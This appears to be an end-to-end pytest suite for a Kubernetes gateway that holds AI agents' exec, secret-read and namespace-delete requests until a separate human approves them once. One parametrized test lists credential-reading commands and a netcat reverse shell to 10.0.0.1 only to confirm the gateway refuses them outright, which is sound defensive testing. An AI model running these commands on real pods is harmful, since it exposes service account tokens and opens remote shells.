"""What needs a human waits for one: for exactly one request, once, and never for the one who asks."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator

import pytest

from scripts.devenv.gateway_env import GatewayEnv
from tests.e2e.agent import Agent, eventually
from tests.e2e.people import Person, chaperone, pending
from tests.e2e.records import ApiServer, approvals, gateway_events
from tests.support.kubernetes import Kubectl

PODS = 18


@pytest.fixture(scope="module")
def pods(admin: Kubectl) -> Iterator[str]:
    """Names of pods; each test takes its own, by which its questions are told apart."""
    names = [f"pod-{number}" for number in range(PODS)]
    spec = {"containers": [{"name": "main", "image": "registry.test/web:1"}]}
    admin.apply(*({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": name}, "spec": spec} for name in names))
    admin("wait", "--for=condition=Ready", "pod", *names, "--timeout=30s")
    return iter(names)


@pytest.fixture
def pod(pods: Iterator[str]) -> str:
    return next(pods)


def execs(api_server: ApiServer, mark: int, pod: str) -> list[str]:
    """The exec requests about a pod that reached the API server."""
    found = {event["auditID"]: event["requestURI"] for event in api_server.about(mark, f"/pods/{pod}/exec")}
    return list(found.values())


def test_an_exec_waits_for_another_person_and_then_runs(
    agent: Agent, gateway: GatewayEnv, oncall: Person, pod: str, api_server: ApiServer
) -> None:
    mark = api_server.mark()
    with agent.stream("exec", pod, "--", "sh", "-c", "echo approved output; echo on stderr >&2") as running:
        question = pending(gateway, name=pod)
        assert execs(api_server, mark, pod) == [], "nothing was forwarded before the answer"
        said = oncall.answers(gateway, "approve", question["id"])
        code, printed = running.finish()
    assert f"{question['id']} granted by" in said
    assert code == 0
    assert "approved output\n" in printed
    assert "on stderr\n" in printed
    (after,) = approvals(gateway, id=question["id"])
    assert (after["state"], after["approver"].rpartition("#")[2]) == ("consumed", "oncall@example.com")
    (uri,) = execs(api_server, mark, pod)
    assert "command=sh" in uri


def test_what_is_asked_shows_who_what_and_why(hasty: Agent, impatient: GatewayEnv, pod: str) -> None:
    hasty.refused("exec", pod, "-c", "main", "--", "ls", "/etc/hostname")
    question = pending(impatient, name=pod)
    (listed,) = [
        each
        for each in json.loads(chaperone(impatient, "approvals", "list", "-o", "json").stdout)
        if each["id"] == question["id"]
    ]
    assert listed["requester_sub"] == hasty.user
    assert listed["argv"] == ["ls", "/etc/hostname"]
    assert listed["rule"] == "exec-needs-approval"
    shown = chaperone(impatient, "approvals", "show", question["id"]).stdout
    for part in (hasty.user, "ls /etc/hostname", pod, hasty.namespace, "exec-needs-approval", "kubectl exec"):
        assert part in shown, part


def test_a_denial_reaches_the_agent_with_its_reason(
    agent: Agent, gateway: GatewayEnv, oncall: Person, pod: str, api_server: ApiServer
) -> None:
    mark = api_server.mark()
    with agent.stream("exec", pod, "--", "date") as running:
        question = pending(gateway, name=pod)
        oncall.answers(gateway, "deny", question["id"], "--note", "read the logs instead, please")
        code, printed = running.finish()
    assert code != 0
    assert "read the logs instead, please" in printed
    assert "oncall@example.com" in printed
    again = agent.refused("exec", pod, "--", "date")
    assert "read the logs instead, please" in again, "answered at once, without asking again"
    assert len(approvals(gateway, name=pod)) == 1
    assert execs(api_server, mark, pod) == []


def test_b81_nobody_approves_what_they_asked_for_or_own(
    impatient: GatewayEnv, as_user: Callable[..., Agent], mint: Callable[..., str], admin: Kubectl, pod: str
) -> None:
    owned = as_user(impatient, "owned-agent", "agents", owner="carol@example.com").within(admin.namespace)
    owned.refused("exec", pod, "--", "date")
    question = pending(impatient, name=pod)
    itself = Person(owned.token)
    assert "nobody approves their own request" in itself.is_refused(impatient, "approve", question["id"])
    owner = Person(mint("carol@example.com", groups=["oncall"]))
    assert "owner of an agent" in owner.is_refused(impatient, "approve", question["id"])
    assert "who are you?" in Person("").is_refused(impatient, "approve", question["id"])
    assert "expired" in Person(mint("dave", claims={"exp": 1})).is_refused(impatient, "approve", question["id"])
    assert approvals(impatient, name=pod)[0]["state"] == "pending"


def test_unanswered_it_is_refused_with_instructions_and_runs_once_when_approved(
    hasty: Agent, impatient: GatewayEnv, oncall: Person, pod: str, api_server: ApiServer
) -> None:
    mark = api_server.mark()
    command = ["exec", pod, "--", "echo", "once"]
    said = hasty.refused(*command)
    question = pending(impatient, name=pod)  # one, although kubectl tries WebSocket and then SPDY
    assert f"chaperone approvals approve {question['id']}" in said
    assert "run the same command again" in said
    assert "rule: exec-needs-approval" in said
    oncall.approves(impatient, question["id"])
    assert hasty(*command) == "once\n"
    assert approvals(impatient, id=question["id"])[0]["state"] == "consumed"
    third = hasty.refused(*command)
    assert question["id"] not in third
    assert "still waiting for an answer" in third
    assert len(execs(api_server, mark, pod)) == 1


@pytest.mark.parametrize(("command", "rule"), [("date", "exec-needs-approval"), ("printenv", "exec-reads-credentials")])
def test_b30_two_tries_of_one_exec_are_one_refusal_and_one_story(
    command: str, rule: str, hasty: Agent, impatient: GatewayEnv, pod: str
) -> None:
    """kubectl asks over WebSocket, then over SPDY."""
    said = hasty.refused("exec", pod, "--", command)
    assert said.count("chaperone refused") == said.count(f"rule: {rule}\n") == 1
    first, second = (event for event in gateway_events(impatient) if f"/pods/{pod}/exec" in event["requestURI"])
    assert (first["verb"], second["verb"]) == ("get", "create")
    assert second["annotations"]["chaperone.dev/retry-of"] == first["auditID"]
    assert "chaperone.dev/retry-of" not in first["annotations"]
    assert f"reference: {second['auditID']}" in said


def test_b86_an_approval_is_for_the_pod_that_was_there(
    hasty: Agent, impatient: GatewayEnv, oncall: Person, pod: str, admin: Kubectl, api_server: ApiServer
) -> None:
    """Not for another one of the same name."""
    command = ["exec", pod, "--", "echo", "which one"]
    hasty.refused(*command)
    question = pending(impatient, name=pod)
    oncall.approves(impatient, question["id"])
    admin("delete", "pod", pod, "--wait=true", "--grace-period=0", "--force")
    admin.run_pod(pod)
    mark = api_server.mark()
    assert question["id"] not in hasty.refused(*command)
    assert execs(api_server, mark, pod) == []


OTHERS = [
    ["--", "echo", "two"],
    ["--", "echo", "one", "two"],
    ["--", "echo", "one "],
    ["-i", "--", "echo", "one"],
]


def test_b69_b81_an_approval_is_for_one_request_only(
    hasty: Agent, impatient: GatewayEnv, as_user: Callable[..., Agent], oncall: Person, pod: str
) -> None:
    hasty.refused("exec", pod, "--", "echo", "one")
    question = pending(impatient, name=pod)
    oncall.approves(impatient, question["id"])
    for other in OTHERS:
        said = hasty.refused("exec", pod, *other)
        assert "still waiting for an answer" in said, other
        assert question["id"] not in said, other
    somebody = as_user(impatient, "somebody-else", "agents").within(hasty.namespace)
    assert question["id"] not in somebody.refused("exec", pod, "--", "echo", "one")
    assert hasty("exec", pod, "--", "echo", "one") == "one\n", "the approval was not used up"


def test_b69_two_at_once_share_a_question_and_one_of_them_runs(
    agent: Agent, gateway: GatewayEnv, oncall: Person, pod: str, api_server: ApiServer
) -> None:
    mark = api_server.mark()
    command = ["exec", pod, "--", "echo", "only one"]
    with agent.stream(*command) as first, agent.stream(*command) as second:
        oncall.approves(gateway, pending(gateway, name=pod)["id"])
        eventually("one of them", lambda: "only one\n" in first.lines + second.lines)
    assert (first.lines + second.lines).count("only one\n") == 1
    assert len(execs(api_server, mark, pod)) == 1


def test_a_secret_of_the_cluster_waits_and_kubectl_comes_back_by_itself(
    impatient: GatewayEnv, as_user: Callable[..., Agent], oncall: Person, admin: Kubectl
) -> None:
    """The 429 of this gateway, which does not wait, is repeated by client-go until it is approved."""
    name = f"{admin.namespace}-system"
    admin.within("kube-system")("create", "secret", "generic", name)
    reader = as_user(impatient, "secret-reader", "agents").within("kube-system")
    with reader.stream("get", "secret", name) as running:
        oncall.approves(impatient, pending(impatient, requester_sub="secret-reader")["id"])
        code, printed = running.finish()
    assert code == 0, printed
    assert f"{name} " in printed


def test_the_429_says_when_to_come_back(impatient: GatewayEnv, as_user: Callable[..., Agent]) -> None:
    with as_user(impatient, "curl", "agents").http() as http:
        reply = http.get("/api/v1/namespaces/kube-system/secrets/any")
    status = reply.json()
    assert (reply.status_code, status["reason"]) == (429, "TooManyRequests")
    assert int(reply.headers["retry-after"]) == status["details"]["retryAfterSeconds"] > 0
    assert "system-secrets-need-approval" in status["message"]
    assert "chaperone approvals approve" in status["message"]


def test_deleting_a_namespace_waits_while_it_is_held(
    agent: Agent, gateway: GatewayEnv, oncall: Person, admin: Kubectl
) -> None:
    name = f"{admin.namespace}-doomed"
    admin("create", "namespace", name)
    with agent.stream("delete", "namespace", name, "--wait=false") as running:
        question = pending(gateway, name=name)
        assert "deletionTimestamp" not in admin.get("namespace", name)["metadata"]
        oncall.approves(gateway, question["id"])
        code, printed = running.finish()
    assert (code, f'namespace "{name}" deleted' in printed) == (0, True)


def test_b81_a_revoked_approval_does_not_count(hasty: Agent, impatient: GatewayEnv, oncall: Person, pod: str) -> None:
    hasty.refused("exec", pod, "--", "date")
    question = pending(impatient, name=pod)
    oncall.approves(impatient, question["id"])
    oncall.answers(impatient, "deny", question["id"], "--note", "on second thoughts")
    assert "on second thoughts" in hasty.refused("exec", pod, "--", "date")


@pytest.mark.parametrize(
    ("arguments", "rule"),
    [
        (["exec", "POD", "--", "env"], "exec-reads-credentials"),
        (["exec", "POD", "--", "cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"], "exec-reads-credentials"),
        (["exec", "POD", "--", "nc", "-e", "/bin/sh", "10.0.0.1", "4444"], "exec-remote-code"),
    ],
    ids=["env", "token", "reverse shell"],
)
def test_what_no_approval_allows_is_not_asked(
    arguments: list[str], rule: str, hasty: Agent, impatient: GatewayEnv, pod: str
) -> None:
    said = hasty.refused(*[pod if word == "POD" else word for word in arguments])
    assert f"rule: {rule}" in said
    assert approvals(impatient, name=pod) == []


def test_the_audit_event_names_the_approver(hasty: Agent, impatient: GatewayEnv, oncall: Person, pod: str) -> None:
    hasty.refused("exec", pod, "--", "echo", "audited")
    question = pending(impatient, name=pod)
    oncall.approves(impatient, question["id"])
    hasty("exec", pod, "--", "echo", "audited")
    forwarded = [
        event["annotations"]
        for event in gateway_events(impatient)
        if event["annotations"].get("chaperone.dev/approval") == question["id"] and event["stage"] == "RequestReceived"
    ]
    assert len(forwarded) == 1
    assert forwarded[0]["chaperone.dev/approver"].rpartition("#")[2] == "oncall@example.com"
    assert json.loads(forwarded[0]["chaperone.dev/argv"]) == ["echo", "audited"]
